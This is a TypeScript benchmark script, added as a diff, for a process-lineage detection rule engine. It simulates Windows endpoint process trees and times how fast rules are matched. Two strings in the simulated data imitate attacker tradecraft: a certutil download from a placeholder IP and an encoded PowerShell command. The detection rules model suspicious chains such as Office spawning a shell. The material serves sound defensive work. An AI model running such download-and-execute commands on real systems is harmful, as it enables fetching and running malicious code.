@@ -1,0 +1,169 @@
+/**
+ * `npm run bench -- rules [--creates N] [--hosts H] [--retention-min M] [--runs R]`: lineage-rule engine
+ * throughput (process-creates per second) with 1 rule and with 50 rules over a generated fleet (default
+ * 10M process-creates on 5,000 hosts over one day), streaming with eviction, on one core. Generation is
+ * done in batches outside the timed section; the engine sees records exactly as a source yields them.
+ * Also reports peak RSS/heap and the engine's counters. Prints JSON lines on stdout.
+ */
+import { RuleEngine } from '../server/src/rules/engine.js';
+import type { CompiledRule, ProcessInput } from '../server/src/rules/model.js';
+import { loadPack } from '../server/src/rules/pack.js';
+import { parseRulesOrThrow } from '../server/src/rules/parse.js';
+
+/** Small deterministic PRNG (mulberry32). */
+function prng(seed: number): () => number {
+  let a = seed >>> 0;
+  return () => {
+    a = (a + 0x6d2b79f5) >>> 0;
+    let t = a;
+    t = Math.imul(t ^ (t >>> 15), t | 1);
+    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
+    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
+  };
+}
+
+/** What each kind of parent tends to start (weights are rough, enterprise-workstation-like). */
+const CHILDREN: Record<string, [string, number][]> = {
+  'services.exe': [['svchost.exe', 8], ['msiexec.exe', 1], ['trustedinstaller.exe', 1], ['cmd.exe', 0.02]],
+  'svchost.exe': [['wmiprvse.exe', 2], ['taskhostw.exe', 3], ['backgroundtaskhost.exe', 3], ['runtimebroker.exe', 2], ['conhost.exe', 1], ['rundll32.exe', 1]],
+  'explorer.exe': [['chrome.exe', 4], ['msedge.exe', 2], ['outlook.exe', 1], ['winword.exe', 1], ['excel.exe', 1], ['cmd.exe', 1], ['powershell.exe', 0.5], ['notepad.exe', 1], ['teams.exe', 1], ['wscript.exe', 0.05], ['control.exe', 0.05]],
+  'chrome.exe': [['chrome.exe', 10]],
+  'msedge.exe': [['msedge.exe', 10]],
+  'teams.exe': [['teams.exe', 5]],
+  'outlook.exe': [['winword.exe', 1], ['excel.exe', 1], ['chrome.exe', 1], ['wscript.exe', 0.01]],
+  'winword.exe': [['splwow64.exe', 5], ['cmd.exe', 0.02], ['powershell.exe', 0.01]],
+  'excel.exe': [['splwow64.exe', 5], ['cmd.exe', 0.02]],
+  'cmd.exe': [['conhost.exe', 10], ['powershell.exe', 1], ['ping.exe', 2], ['net.exe', 1], ['whoami.exe', 0.5], ['ipconfig.exe', 1], ['findstr.exe', 2], ['winword.exe', 0.02]],
+  'powershell.exe': [['conhost.exe', 10], ['cmd.exe', 1], ['whoami.exe', 0.5], ['net.exe', 0.5], ['certutil.exe', 0.05], ['excel.exe', 0.02]],
+  'wmiprvse.exe': [['cmd.exe', 0.5], ['powershell.exe', 0.3], ['msiexec.exe', 1]],
+  'wscript.exe': [['cmd.exe', 1], ['powershell.exe', 1]],
+  'control.exe': [['rundll32.exe', 1]],
+  'rundll32.exe': [['rundll32.exe', 0.2], ['cmd.exe', 0.05]],
+  'net.exe': [['net1.exe', 1]],
+};
+const FALLBACK: [string, number][] = [['conhost.exe', 1]];
+
+function picker(table: [string, number][]): (r: number) => string {
+  const total = table.reduce((a, [, w]) => a + w, 0);
+  return (r) => { let x = r * total; for (const [n, w] of table) { x -= w; if (x <= 0) return n; } return table[table.length - 1]![0]; };
+}
+const PICK: Record<string, (r: number) => string> = Object.fromEntries(Object.entries(CHILDREN).map(([k, v]) => [k, picker(v)]));
+const pickFallback = picker(FALLBACK);
+const DIR: Record<string, string> = { 'chrome.exe': 'C:\\Program Files\\Google\\Chrome\\Application\\', 'winword.exe': 'C:\\Program Files\\Microsoft Office\\root\\Office16\\', 'excel.exe': 'C:\\Program Files\\Microsoft Office\\root\\Office16\\', 'outlook.exe': 'C:\\Program Files\\Microsoft Office\\root\\Office16\\' };
+
+interface SimProc { guid: string; name: string; image: string; cmd: string; pid: number }
+interface Host { name: string; hex: string; n: number; pid: number; longLived: SimProc[]; recent: SimProc[]; ri: number }
+
+/** A fleet-day of process-creates, yielded in time order in batches. */
+function* fleet(total: number, hosts: number, batch: number, seed = 42): Generator<ProcessInput[]> {
+  const rnd = prng(seed);
+  const dayStart = Date.UTC(2026, 2, 2);
+  const step = 86_400_000 / total;
+  const hs: Host[] = Array.from({ length: hosts }, (_, i) => ({ name: `ws-${i}.corp.example`, hex: (0x10000000 + i * 7919).toString(16).slice(-8), n: 0, pid: 1000, longLived: [], recent: [], ri: 0 }));
+  const mk = (h: Host, name: string, cmd?: string): SimProc => {
+    h.n++;
+    const c = h.n.toString(16).padStart(12, '0');
+    return { guid: `{${h.hex}-${c.slice(0, 4)}-${c.slice(4, 8)}-0000-${c}}`, name, image: `${DIR[name] ?? 'C:\\Windows\\System32\\'}${name}`, cmd: cmd ?? name, pid: (h.pid += 4) };
+  };
+  const rec = (h: Host, p: SimProc, parent: SimProc | null, t: number): ProcessInput => ({
+    guid: p.guid, parentGuid: parent ? parent.guid : '{00000000-0000-0000-0000-000000000000}', host: h.name, pid: p.pid, parentPid: parent?.pid ?? null,
+    image: p.image, name: p.name, commandLine: p.cmd, parentImage: parent?.image ?? '', parentCommandLine: parent?.cmd ?? '',
+    parentUser: 'CORP\\user', user: 'CORP\\user', integrityLevel: 'Medium', hashes: '', currentDirectory: 'C:\\', logonGuid: '',
+    startTime: new Date(t).toISOString(), endTime: null,
+  });
+  let made = 0;
+  let out: ProcessInput[] = [];
+  // Boot: each host's long-lived processes (not all logged: services' own create is before the data).
+  for (const h of hs) {
+    const services = mk(h, 'services.exe');
+    const explorer = mk(h, 'explorer.exe');
+    const svc = [mk(h, 'svchost.exe'), mk(h, 'svchost.exe'), mk(h, 'svchost.exe')];
+    h.longLived = [services, explorer, ...svc];
+    for (const s of svc) { out.push(rec(h, s, services, dayStart)); made++; }
+    out.push(rec(h, explorer, null, dayStart)); made++;
+  }
+  while (made < total) {
+    const h = hs[Math.floor(rnd() * hosts)]!;
+    const parent = rnd() < 0.45 || h.recent.length === 0 ? h.longLived[Math.floor(rnd() * h.longLived.length)]! : h.recent[Math.floor(rnd() * h.recent.length)]!;
+    const name = (PICK[parent.name] ?? pickFallback)(rnd());
+    const cmd = name === 'powershell.exe' && rnd() < 0.1 ? 'powershell -nop -enc SQBFAFgA' : name === 'certutil.exe' ? 'certutil -urlcache -f http://198.51.100.1/a a' : undefined;
+    const p = mk(h, name, cmd);
+    out.push(rec(h, p, parent, dayStart + made * step));
+    made++;
+    if (h.recent.length < 24) h.recent.push(p); else { h.recent[h.ri] = p; h.ri = (h.ri + 1) % 24; }
+    if (out.length >= batch) { yield out; out = []; }
+  }
+  if (out.length) yield out;
+}
+
+/** 50 rules: the shipped pack plus one-liners over the same vocabulary (broad and narrow leaves). */
+function fiftyRules(): CompiledRule[] {
+  const pack = loadPack();
+  const extra = [
+    'explorer.exe -[1..3]-> powershell.exe -> certutil.exe', 'cmd.exe -[1..4]-> net1.exe', 'winword.exe -[1..*]-> whoami.exe',
+    'outlook.exe -[1..5]-> cmd.exe', 'wmiprvse.exe -[1..3]-> net.exe', 'services.exe -[2]-> cmd.exe', 'powershell.exe -> powershell.exe',
+    'cmd.exe -> cmd.exe', 'excel.exe -[1..3]-> conhost.exe', 'svchost.exe -[1..2]-> rundll32.exe -> cmd.exe', 'rundll32.exe -[1..3]-> cmd.exe',
+    'explorer.exe -> cmd.exe -> ping.exe within 1m', 'chrome.exe -[1..4]-> cmd.exe|powershell.exe', 'teams.exe -[1..3]-> cmd.exe',
+    'explorer.exe -[1..6]-> findstr.exe', 'cmd.exe -[1..2]-> ipconfig.exe', 'powershell.exe -[1..2]-> whoami.exe',
+    'explorer.exe -> wscript.exe -[1..2]-> powershell.exe', 'wmiprvse.exe -[1..*]-> conhost.exe', 'msiexec.exe -[1..3]-> cmd.exe',
+    'splwow64.exe -[1..2]-> cmd.exe', 'control.exe -[1..4]-> cmd.exe', 'taskhostw.exe -[1..2]-> powershell.exe',
+    'runtimebroker.exe -[1..2]-> cmd.exe', 'backgroundtaskhost.exe -> powershell.exe', 'explorer.exe -[1..3]-> net.exe -> net1.exe',
+    'winword.exe|excel.exe -[1..4]-> powershell.exe', 'services.exe -[1..*]-> whoami.exe', 'cmd.exe -> powershell.exe -> cmd.exe',
+  ];
+  const rules = [...pack];
+  for (const [i, text] of extra.entries()) {
+    if (rules.length >= 50) break;
+    const r = parseRulesOrThrow(text)[0]!;
+    rules.push({ ...r, id: `bench-${i + 1}` });
+  }
+  return rules;
+}
+
+function arg(argv: string[], name: string, def: number): number {
+  const i = argv.indexOf(`--${name}`);
+  return i >= 0 ? Number(argv[i + 1]) : def;
+}
+
+function median(xs: number[]): number {
+  const s = [...xs].sort((a, b) => a - b);
+  return s[Math.floor(s.length / 2)]!;
+}
+
+function once(rules: CompiledRule[], total: number, hosts: number, retentionMs: number) {
+  const engine = new RuleEngine(rules, { retentionMs });
+  let ms = 0;
+  let hits = 0;
+  let peakRss = 0;
+  let peakHeap = 0;
+  for (const batch of fleet(total, hosts, 100_000)) {
+    const t0 = performance.now();
+    for (const r of batch) engine.addProcess(r);
+    hits += engine.drain().length;
+    ms += performance.now() - t0;
+    const mu = process.memoryUsage();
+    peakRss = Math.max(peakRss, mu.rss);
+    peakHeap = Math.max(peakHeap, mu.heapUsed);
+  }
+  return { ms, hits, peakRss, peakHeap, retained: engine.size(), counters: { ...engine.counters } };
+}
+
+export async function run(argv: string[]): Promise<void> {
+  const total = arg(argv, 'creates', 10_000_000);
+  const hosts = arg(argv, 'hosts', 5000);
+  const retentionMs = arg(argv, 'retention-min', 60) * 60_000;
+  const runs = arg(argv, 'runs', 1);
+  const sets: [string, CompiledRule[]][] = [['1 rule', parseRulesOrThrow('cmd.exe -[1..5]-> powershell.exe|pwsh.exe -[1..5]-> winword.exe|excel.exe|powerpnt.exe within 30m')], ['50 rules', fiftyRules()]];
+  for (const [label, rules] of sets) {
+    const results = Array.from({ length: runs }, () => once(rules, total, hosts, retentionMs));
+    const rates = results.map((r) => total / (r.ms / 1000));
+    const last = results[results.length - 1]!;
+    const line = {
+      bench: 'rules', rules: rules.length, label, creates: total, hosts, retentionMin: retentionMs / 60_000, runs,
+      medianCreatesPerSec: Math.round(median(rates)), engineMs: Math.round(median(results.map((r) => r.ms))),
+      hits: last.hits, peakRssMiB: Math.round(Math.max(...results.map((r) => r.peakRss)) / 2 ** 20),
+      peakHeapMiB: Math.round(Math.max(...results.map((r) => r.peakHeap)) / 2 ** 20), retainedNodes: last.retained, counters: last.counters,
+    };
+    console.log(JSON.stringify(line));
+    console.error(`[rules] ${label}: ${(line.medianCreatesPerSec / 1e6).toFixed(2)}M creates/s (median of ${runs}), ${line.hits} hits, peak RSS ${line.peakRssMiB} MiB, heap ${line.peakHeapMiB} MiB, ${line.retainedNodes} nodes retained`);
+  }
+}
